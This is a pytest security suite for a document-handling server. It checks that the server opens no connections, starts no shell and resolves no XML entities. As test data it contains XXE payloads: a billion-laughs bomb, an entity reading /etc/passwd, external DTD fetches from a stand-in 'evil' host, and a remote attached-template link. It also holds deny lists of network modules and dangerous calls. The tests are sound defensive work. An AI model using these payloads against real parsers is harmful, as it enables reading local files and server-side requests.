"""The server fetches nothing that somebody names: no address of a request, a file, a template or XML is ever opened."""

from __future__ import annotations

import ast
import io
import re
import socket
import zipfile
from pathlib import Path

import pytest

import canbo
from canbo.core.errors import DomainError
from canbo.documents.sources.safety import inspect
from canbo.documents.sources.workbook import open_workbook

ROOT = Path(canbo.__file__).parent

#: Modules that can open a connection, and the only files that use them, with the reason.
REACHING = {
    "socket", "http", "http.client", "urllib.request", "urllib3", "requests", "httpx", "aiohttp", "ftplib", "smtplib", "telnetlib",
    "xmlrpc", "asyncio", "pycurl", "websocket", "paramiko",
}  # fmt: skip
ALLOWED = {
    "cli/processes.py": "asks its own server on loopback whether it is up",
    "accounts/sso.py": "asks the provider of single sign-on that the settings name (CANBO_OIDC_URL), nothing of a request",
}


def imported(path: Path):
    for node in ast.walk(ast.parse(path.read_text("utf-8"))):
        if isinstance(node, ast.Import):
            yield from (each.name for each in node.names)
        elif isinstance(node, ast.ImportFrom) and node.module and not node.level:
            yield node.module
            yield from (f"{node.module}.{each.name}" for each in node.names)


def test_only_named_files_can_open_a_connection():
    found = {
        path.relative_to(ROOT).as_posix()
        for path in ROOT.rglob("*.py")
        if "tests" not in path.parts and set(imported(path)) & REACHING
    }
    assert found == set(ALLOWED), "say in ALLOWED which files may reach out, and why"


def test_a_program_is_started_only_by_commands():
    """No shell, and nothing of a request in what is run: LibreOffice gets the names of files made here."""
    found = set()
    for path in ROOT.rglob("*.py"):
        if "tests" in path.parts:
            continue
        text = path.read_text("utf-8")
        assert "shell=True" not in text, path
        assert "os.system(" not in text, path
        assert "os.popen(" not in text, path
        for name in ("eval(", "exec("):
            calls = [
                node
                for node in ast.walk(ast.parse(text))
                if isinstance(node, ast.Call) and isinstance(node.func, ast.Name) and f"{node.func.id}(" == name
            ]
            assert not calls, f"{path}: {name}"
        if "subprocess" in set(imported(path)):
            found.add(path.relative_to(ROOT).as_posix())
        assert not {"pickle", "marshal", "shelve", "dill"} & set(imported(path)), path
    assert {name for name in found if name.split("/")[0] not in {"cli", "web", "jobs"}} == {"documents/pdf.py"}


@pytest.fixture
def alone(monkeypatch):
    """Any connection is a failure."""

    def forbidden(*_args, **_named):
        raise AssertionError("somebody reached out")

    monkeypatch.setattr(socket.socket, "connect", forbidden)
    monkeypatch.setattr(socket, "getaddrinfo", forbidden)
    monkeypatch.setattr(socket, "create_connection", forbidden)


OUTSIDE = "http://127.0.0.1:9/evil"
RELATION = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    f'Target="{OUTSIDE}/t.dotm" TargetMode="External"/><Relationship Id="rId10" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" '
    f'Target="file:///etc/passwd" TargetMode="External"/></Relationships>'
)


def changed(content: bytes, **parts: bytes) -> bytes:
    """A zipped office file with some parts replaced or added (`__` stands for /, `_` for .)."""
    wanted = {name.replace("__", "/").replace("_dot_", "."): body for name, body in parts.items()}
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, wanted.pop(name, old.read(name)))
        for name, body in wanted.items():
            new.writestr(name, body)
    return out.getvalue()


@pytest.fixture
def word() -> bytes:
    from importlib.resources import files

    return files("canbo.documents").joinpath("templates", "docx", "plain.docx").read_bytes()


@pytest.fixture
def sheet() -> bytes:
    import xlsxwriter

    out = io.BytesIO()
    book = xlsxwriter.Workbook(out, {"in_memory": True})
    book.add_worksheet().write_row(0, 0, ["Họ và tên", "Ngày sinh"])
    book.close()
    return out.getvalue()


def test_a_list_that_links_elsewhere_is_read_without_going_there(alone, sheet, word, tmp_path):
    linked = changed(
        sheet, xl__externalLinks___rels__externalLink1_dot_xml_dot_rels=RELATION.encode(),
        xl__worksheets___rels__sheet1_dot_xml_dot_rels=RELATION.encode(),
    )  # fmt: skip
    path = tmp_path / "a.xlsx"
    path.write_bytes(linked)
    assert open_workbook(path)[0].rows
    text = tmp_path / "a.docx"
    text.write_bytes(changed(word, word___rels__settings_dot_xml_dot_rels=RELATION.encode()))
    assert open_workbook(text)


def test_a_template_of_the_office_that_links_elsewhere_goes_nowhere(alone, word, tmp_path):
    import docx
    from docxtpl import DocxTemplate

    path = tmp_path / "mau.docx"
    path.write_bytes(changed(word, word___rels__settings_dot_xml_dot_rels=RELATION.encode()))
    template = DocxTemplate(str(path))
    template.render({})
    out = io.BytesIO()
    template.save(out)
    assert docx.Document(out) is not None


LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(b'<!ENTITY lol%d "%s">' % (n, (b"&lol%d;" % (n - 1) if n > 1 else b"&lol;") * 10) for n in range(1, 10))
    + b"]><worksheet>&lol9;</worksheet>"
)
READING = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><worksheet>&b;</worksheet>'
ASKING = b'<?xml version="1.0"?><!DOCTYPE a SYSTEM "http://127.0.0.1:9/evil.dtd"><worksheet/>'
PARAMETER = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY % b SYSTEM "http://127.0.0.1:9/evil.dtd">%b;]><worksheet/>'


@pytest.mark.parametrize("part", ["xl__worksheets__sheet1_dot_xml", "xl__workbook_dot_xml", "docProps__core_dot_xml"])
@pytest.mark.parametrize("body", [LAUGHS, READING, ASKING, PARAMETER, READING.decode().encode("utf-16")])
def test_entities_in_a_list(alone, sheet, tmp_path, part, body):
    path = tmp_path / "a.xlsx"
    path.write_bytes(changed(sheet, **{part: body}))
    with pytest.raises(DomainError) as refusal:
        inspect(path)
    assert refusal.value.code == "file_broken"


@pytest.mark.parametrize("body", [LAUGHS, READING, ASKING, PARAMETER])
def test_entities_in_an_open_document(alone, tmp_path, body):
    path = tmp_path / "a.ods"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr("content.xml", body)
    with pytest.raises(DomainError) as refusal:
        inspect(path)
    assert refusal.value.code == "file_broken"


def test_entities_behind_the_first_bytes_of_a_sheet(alone, sheet, tmp_path):
    """Hidden beyond what the first look reads: the reader itself refuses."""
    path = tmp_path / "a.xlsx"
    late = READING.replace(b"<!DOCTYPE", b"<!--" + b" " * 100_000 + b"--><!DOCTYPE")
    path.write_bytes(changed(sheet, xl__worksheets__sheet1_dot_xml=late))
    with pytest.raises(DomainError):
        open_workbook(path)


def test_no_reader_of_xml_follows_entities_or_the_network():
    """The one place that parses XML itself refuses document types first; Word files are read by python-docx, after it."""
    found = {
        path.relative_to(ROOT).as_posix()
        for path in ROOT.rglob("*.py")
        if "tests" not in path.parts and any(name.split(".")[0] in {"lxml", "xml", "bs4"} for name in imported(path))
    }
    writing = {"documents/marking.py"}  # escapes what it writes, parses nothing
    naming = {"documents/filling.py"}  # catches the error of a template that is no XML
    checking = {"documents/template_checks.py"}  # a template that somebody uploads, by a parser that resolves nothing
    assert found - writing - naming - checking == {
        "documents/sources/ooxml.py", "documents/sources/opendocument.py", "documents/sources/word.py",
    }  # fmt: skip
    assert re.findall(r"etree\.\w+", (ROOT / "documents/filling.py").read_text("utf-8")) == ["etree.XMLSyntaxError"]
    checks = (ROOT / "documents/template_checks.py").read_text("utf-8")
    assert checks.count("etree.XMLParser(resolve_entities=False, no_network=True, huge_tree=False)") == 1
    assert checks.count("fromstring(") == checks.count("fromstring(content, parser)") == 1
    assert "parse" not in (ROOT / "documents/marking.py").read_text("utf-8").replace("docx.oxml.parser", "")
    assert "ExternalEntity" not in (ROOT / "documents/sources/opendocument.py").read_text("utf-8")
    ooxml = (ROOT / "documents/sources/ooxml.py").read_text("utf-8")
    for way in ("fromstring(", "iterparse(", "XMLParser(", "etree.parse("):
        assert ooxml.count(way) == (1 if way == "fromstring(" else 0), (
            "a new reader of XML: refuse document types first"
        )
    before = ooxml[: ooxml.index("fromstring(")]
    assert "check_xml_head(data)" in before[-300:]
